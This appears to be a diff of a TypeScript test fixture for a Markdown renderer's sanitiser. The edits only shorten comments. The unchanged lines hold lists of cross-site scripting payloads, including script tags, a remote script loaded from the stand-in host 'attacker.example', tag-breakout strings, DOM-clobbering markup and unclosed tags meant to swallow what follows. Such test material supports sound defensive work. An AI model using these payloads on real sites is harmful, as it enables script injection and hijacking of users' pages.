@@ -3,7 +3,7 @@ export const ATTACKER = 'attacker.example';
 const RUN = 'window.pwned=1';
 const FROM = `https://${ATTACKER}`;
 
-/** Each ends before the next empty line, however the Markdown parser reads it. */
+/** Each ends before the next empty line. */
 const CLOSED: readonly string[] = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=${FROM}/x.js></SCRIPT>`,
@@ -100,13 +100,13 @@ const CLOSED: readonly string[] = [
   `</textarea></title></style></noscript></template></script><script>${RUN}</script>`,
   `\u0000<script\u0000>${RUN}</script>`,
   `&lt;script&gt;${RUN}&lt;/script&gt;`,
-  // Names that could clobber globals of the page's scripts.
+  // Could clobber globals.
   `# __NEXT_DATA__\n\n# location\n\n# document\n\n# body\n\n# main\n\n# __next\n\n# filters\n\n# results`,
   `<form id=__NEXT_DATA__ name=location><input name=innerHTML></form><a id=__next name=body href=${FROM}>x</a>`,
   `<img name=getElementById><img name=currentScript><a id=config><a id=config name=url href=${FROM}>x</a>`,
 ];
 
-/** Unclosed markup that could swallow what follows. */
+/** Could swallow what follows. */
 const UNCLOSED: readonly string[] = [
   `<script>${RUN}//`,
   `<!-- <img src=x onerror=${RUN}>`,
